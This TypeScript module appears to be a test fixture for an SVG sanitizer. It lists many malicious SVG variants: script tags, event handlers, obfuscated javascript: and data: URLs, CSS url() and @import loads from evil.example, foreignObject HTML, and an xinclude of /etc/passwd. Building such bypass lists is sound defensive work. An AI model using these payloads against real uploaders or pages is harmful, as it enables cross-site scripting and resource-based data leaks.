import { buildAttackList, outside, run, shape, svgNamespace, wrap, xhtml } from './attack-frame.ts';

const { attacks, add, addAll } = buildAttackList();

addAll('script', {
  plain: wrap(`<script>${run}</script>`),
  cdata: wrap(`<script><![CDATA[${run}]]></script>`),
  'with type': wrap(`<script type="text/javascript">${run}</script>`),
  module: wrap(`<script type="module">${run}</script>`),
  'href data': wrap(`<script href="data:text/javascript,${run}"/>`),
  'xlink data': wrap(`<script xlink:href="data:text/javascript,${run}"/>`),
  'href outside': wrap('<script href="https://evil.example/x.js"/>'),
  'in defs': wrap(`<defs><script>${run}</script></defs>`),
  'in title': wrap(`<title><script>${run}</script></title>`),
  'in style': wrap(`<style><script>${run}</script></style>`),
  'in text': wrap(`<text><script>${run}</script>hello</text>`),
  'svg prefix': `<s:svg xmlns:s="${svgNamespace}" viewBox="0 0 9 9"><s:rect width="9" height="9"/><s:script>${run}</s:script></s:svg>`,
  'odd prefix': wrap(`<q:script xmlns:q="${svgNamespace}">${run}</q:script>`),
  'html prefix': wrap(`<h:script xmlns:h="${xhtml}">${run}</h:script>`),
  'html default': wrap(`<script xmlns="${xhtml}">${run}</script>`),
  'prefix svg bound to html': `<svg:svg xmlns:svg="${svgNamespace}" viewBox="0 0 9 9"><svg:rect width="9" height="9"/><g xmlns:svg="${xhtml}"><svg:script>${run}</svg:script></g></svg:svg>`,
  'upper case': wrap(`<SCRIPT>${run}</SCRIPT>`),
  'character references': wrap('<script>&#119;indow.pwned=1</script>'),
  'second root': `${wrap('')}<script xmlns="${svgNamespace}">${run}</script>`,
  'split by comment': wrap(`<scr<!-- -->ipt>${run}</script>`),
});

for (const handler of [
  'onload',
  'onclick',
  'onerror',
  'onbegin',
  'onend',
  'onrepeat',
  'onmouseover',
  'onfocus',
  'onfocusin',
  'onunload',
  'onresize',
  'onscroll',
  'onzoom',
  'onactivate',
  'onanimationstart',
  'ontransitionend',
  'onpointerenter',
  'ONLOAD',
  'OnLoad',
  'onwheel',
  'oncontentvisibilityautostatechange',
]) {
  add(`handler: ${handler} on root`, wrap('', `${handler}="${run}"`));
}
addAll('handler', {
  'on shape': wrap(`<circle r="5" onload="${run}" onclick="${run}"/>`),
  'on image': wrap(`<image href="x" onerror="${run}"/>`),
  'on use': wrap(`<use href="#none" onload="${run}" onerror="${run}"/>`),
  'on animate': wrap(`<animate onbegin="${run}" attributeName="x" dur="1s"/>`),
  'on style': wrap(`<style onload="${run}">a{}</style>`),
  'with focus': wrap(`<g tabindex="1" autofocus="" onfocus="${run}"><rect width="1" height="1"/></g>`),
  encoded: wrap('<g onload="&#x77;indow.pwned=1"/>'),
  'in namespace': wrap(`<g xmlns:e="http://www.w3.org/2001/xml-events" e:onload="${run}"/>`),
  'xml events': wrap(
    `<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="load" handler="data:text/javascript,${run}"/>`,
  ),
  'handler element': wrap(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`),
});

const scriptAddresses: Record<string, string> = {
  plain: `javascript:${run}`,
  'mixed case': `JaVaScRiPt:${run}`,
  tab: `java&#9;script:${run}`,
  newline: `java&#10;script:${run}`,
  return: `java&#13;script:${run}`,
  'leading space': ` javascript:${run}`,
  'leading control': `&#x20;&#x0A;javascript:${run}`,
  decimal: `&#106;avascript:${run}`,
  hexadecimal: `&#x6A;avascript:${run}`,
  'all encoded': [...`javascript:${run}`].map((char) => `&#${char.charCodeAt(0)};`).join(''),
  'colon encoded': `javascript&#58;${run}`,
  'with address': `javascript://evil.example/%0a${run}`,
  vbscript: 'vbscript:msgbox(1)',
  'data html': `data:text/html,&lt;script&gt;${run}&lt;/script&gt;`,
  'data html base64': `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  'data svg': `data:image/svg+xml;base64,${Buffer.from(wrap(`<script>${run}</script>`)).toString('base64')}`,
  'data svg plain': `data:image/svg+xml,&lt;svg xmlns='${svgNamespace}' onload='${run}'/&gt;#x`,
  'data xml': 'data:application/xml,&lt;x/&gt;',
  'data with a png type': `data:image/png,${run}`,
  'data with false magic': `data:image/png;base64,${Buffer.from('<script>').toString('base64')}`,
  'data two types': 'data:image/png,text/html;base64,PHNjcmlwdD4=',
  'protocol relative': '//evil.example/x.svg#a',
  http: 'http://evil.example/x.svg#a',
  https: 'https://evil.example/x.svg#a',
  file: 'file:///etc/passwd',
  relative: 'other.svg#a',
  'absolute path': '/pwned.svg#a',
  'empty before hash': '?x#a',
  blob: 'blob:https://evil.example/1',
  ftp: 'ftp://evil.example/x',
  'full-width colon': 'javascript：alert(1)',
  backslashes: '\\\\evil.example\\x',
};
for (const [name, address] of Object.entries(scriptAddresses)) {
  add(`address in a: ${name}`, wrap(`<a href="${address}">${shape}</a>`));
  add(`address in xlink a: ${name}`, wrap(`<a xlink:href="${address}"><text y="9">go</text></a>`));
  add(`address in use: ${name}`, wrap(`<use href="${address}"/>`));
  add(`address in image: ${name}`, wrap(`<image width="9" height="9" xlink:href="${address}"/>`));
}
for (const element of [
  'feImage',
  'textPath',
  'linearGradient',
  'pattern',
  'filter',
  'script',
  'mpath',
  'tref',
  'cursor',
]) {
  add(`address in ${element}`, wrap(`<${element} href="https://evil.example/x.svg#a"/>`));
  add(`xlink address in ${element}`, wrap(`<${element} xlink:href="https://evil.example/x.svg#a"/>`));
}
addAll('address', {
  'href and xlink': wrap('<use href="#a" xlink:href="https://evil.example/#a"/>'),
  'xlink and href': wrap('<use xlink:href="#a" href="https://evil.example/#a"/>'),
  'renamed prefix': wrap('<use xmlns:z="http://www.w3.org/1999/xlink" z:href="https://evil.example/#a"/>'),
  'xml:base': wrap('<g xml:base="https://evil.example/"><use href="#a"/></g>'),
  'xml:base on root': wrap('<use href="#a"/>', 'xml:base="https://evil.example/"'),
  src: wrap('<image src="https://evil.example/x.png"/>'),
  srcset: wrap('<image srcset="https://evil.example/x.png 2x"/>'),
  ping: wrap('<a href="#x" ping="https://evil.example/">x</a>'),
  svgView: wrap('<use href="#svgView(viewBox(0,0,1,1))"/>'),
  xpointer: wrap('<use href="#xpointer(id(\'a\'))"/>'),
});

const styles: Record<string, string> = {
  'url http': `fill:url(${outside})`,
  'url quoted': `fill:url("${outside}")`,
  'url single quoted': `fill:url('${outside}')`,
  'url upper': `fill:URL(${outside})`,
  'url escaped': `fill:u\\72l(${outside})`,
  'url escaped fully': `fill:\\75\\72\\6c(${outside})`,
  'url with comment': `fill:url(/**/${outside})`,
  'url spaced': `fill:url(   ${outside}   )`,
  'url relative': 'fill:url(x.svg#a)',
  'url protocol relative': 'filter:url(//evil.example/x#f)',
  'url data': 'mask:url(data:image/svg+xml;base64,PHN2Zy8+#a)',
  'url script': 'fill:url(javascript:window.pwned=1)',
  'second url': `fill:url(#a) url(${outside})`,
  'clip-path': `clip-path:url(${outside}#c)`,
  marker: `marker:url(${outside}#m)`,
  cursor: `cursor:url(${outside}),auto`,
  background: `background:url(${outside})`,
  'background-image': `background-image:url(${outside})`,
  'list-style': `list-style:url(${outside})`,
  'border-image': `border-image:url(${outside})`,
  content: `content:url(${outside})`,
  'mask-image': `mask-image:url(${outside})`,
  'shape-outside': `shape-outside:url(${outside})`,
  'image-set': `background:image-set("${outside}" 1x)`,
  'cross-fade': `background:cross-fade(url(${outside}),red)`,
  src: `fill:src("${outside}")`,
  'in variable': `--x:url(${outside});fill:var(--x)`,
  expression: 'width:expression(window.pwned=1)',
  'expression split': 'width:exp/**/ression(window.pwned=1)',
  behavior: `behavior:url(${outside})`,
  binding: `-moz-binding:url(${outside}#x)`,
  progid: 'filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="x")',
  animation: 'animation:x 1s infinite',
  'bad string': `fill:"\n;x:url(${outside})`,
  'unclosed comment': `/* fill:url(${outside})`,
  'unclosed bracket': `fill:url(${outside}`,
  'null escape': `fill:\\0 url(${outside})`,
  important: `fill:url(${outside})!important`,
};
for (const [name, style] of Object.entries(styles)) {
  const attribute = style.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  add(`style attribute: ${name}`, wrap(`<rect id="a" width="9" height="9" style="${attribute}"/>`));
  add(`style sheet: ${name}`, wrap(`<style><![CDATA[rect{${style}}]]></style>`));
}
addAll('presentation', {
  fill: wrap(`<rect width="9" height="9" fill="url(${outside})"/>`),
  'fill escaped': wrap(`<rect width="9" height="9" fill="\\75rl(${outside})"/>`),
  stroke: wrap(`<rect width="9" height="9" stroke="url('${outside}#a')"/>`),
  filter: wrap(`<rect width="9" height="9" filter="url(${outside}#a)"/>`),
  mask: wrap(`<rect width="9" height="9" mask="url(${outside}#a)"/>`),
  'clip-path': wrap(`<rect width="9" height="9" clip-path="url(${outside}#a)"/>`),
  'marker-end': wrap(`<path d="M0 0h9" marker-end="url(${outside}#a)"/>`),
  cursor: wrap(`<rect width="9" height="9" cursor="url(${outside}),auto"/>`),
});
addAll('sheet', {
  import: wrap(`<style>@import "${outside}";</style>`),
  'import url': wrap(`<style>@import url(${outside});</style>`),
  'import upper': wrap(`<style>@IMPORT url(${outside});</style>`),
  'import escaped': wrap(`<style>@\\69mport url(${outside});</style>`),
  'import after comment': wrap(`<style>/**/@import/**/url(${outside});</style>`),
  'import in cdata': wrap(`<style><![CDATA[@import url(${outside});]]></style>`),
  'import encoded': wrap(`<style>&#64;import url(${outside});</style>`),
  'font-face': wrap(`<style>@font-face{font-family:x;src:url(${outside})}text{font-family:x}</style><text>x</text>`),
  'font-face data': wrap('<style>@font-face{font-family:x;src:url(data:font/woff;base64,AA)}</style>'),
  namespace: wrap(`<style>@namespace url(${outside});</style>`),
  keyframes: wrap('<style>@keyframes x{from{fill:red}}rect{animation:x 1s}</style>'),
  'in media': wrap(`<style>@media all{@import url(${outside});rect{fill:url(${outside})}}</style>`),
  supports: wrap(`<style>@supports (fill:red){rect{fill:url(${outside})}}</style>`),
  document: wrap(`<style>@document url(${outside}){rect{fill:red}}</style>`),
  nested: wrap(`<style>g{rect{fill:url(${outside})}}</style>`),
  'closing tag in string': wrap('<style>a{content:"&lt;/style>&lt;script>window.pwned=1&lt;/script>"}</style>'),
  'attribute leak': wrap(`<style>[id^="a"]{background:url(${outside})}</style>`),
  'other type': wrap(`<style type="text/xsl">@import url(${outside});</style>`),
  'html style': wrap(`<h:style xmlns:h="${xhtml}">@import url(${outside});</h:style>`),
  'html link': wrap(`<h:link xmlns:h="${xhtml}" rel="stylesheet" href="${outside}"/>`),
});

addAll('foreign', {
  foreignObject: wrap(
    `<foreignObject width="9" height="9"><iframe xmlns="${xhtml}" src="javascript:${run}"/></foreignObject>`,
  ),
  'foreignObject body': wrap(
    `<foreignObject><body xmlns="${xhtml}" onload="${run}"><img src="x" onerror="${run}"/></body></foreignObject>`,
  ),
  'in switch': wrap(
    `<switch><foreignObject><form xmlns="${xhtml}" action="${outside}"/></foreignObject><g>${shape}</g></switch>`,
  ),
  'html iframe': wrap(`<iframe xmlns="${xhtml}" src="${outside}"/>`),
  'html img': wrap(`<img xmlns="${xhtml}" src="x" onerror="${run}"/>`),
  'html object': wrap(`<object xmlns="${xhtml}" data="${outside}"/>`),
  'html meta': wrap(`<meta xmlns="${xhtml}" http-equiv="refresh" content="0;url=${outside}"/>`),
  'html base': wrap(`<base xmlns="${xhtml}" href="${outside}"/>`),
  'html video': wrap(`<video xmlns="${xhtml}" src="${outside}"/>`),
  'svg iframe': wrap(`<iframe src="${outside}"/>`),
  'svg audio': wrap(`<audio href="${outside}"/>`),
  mathml: wrap(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction href="javascript:window.pwned=1">x</maction></math>',
  ),
  xslt: wrap(
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"/></xsl:stylesheet>',
  ),
  xinclude: wrap(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`),
  metadata: wrap(`<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>`),
  requiredExtensions: wrap(`<g requiredExtensions="http://evil.example/">${shape}</g>`),
});

addAll('animation', {
  'animate href': wrap(`<a><animate attributeName="href" values="javascript:${run}"/><text y="9">x</text></a>`),
  'animate xlink:href': wrap(`<use href="#a"><animate attributeName="xlink:href" to="${outside}#a"/></use>`),
  'set href': wrap(`<a><set attributeName="href" to="javascript:${run}"/><text>x</text></a>`),
  'set handler': wrap(`<rect width="9" height="9"><set attributeName="onmouseover" to="${run}"/></rect>`),
  'set style': wrap(`<rect width="9" height="9"><set attributeName="style" to="fill:url(${outside})"/></rect>`),
  animateTransform: wrap(
    '<g><animateTransform attributeName="transform" type="rotate" to="360" dur="1ms" repeatCount="indefinite"/></g>',
  ),
  animateMotion: wrap(`<animateMotion path="M0 0"><mpath href="${outside}#a"/></animateMotion>`),
  prefixed: wrap(`<z:set xmlns:z="${svgNamespace}" attributeName="href" to="javascript:${run}"/>`),
  discard: wrap('<discard begin="0s" href="#a"/>'),
});

/** Files that want to run, load, link or navigate. */
export const activeAttacks: typeof attacks = attacks;
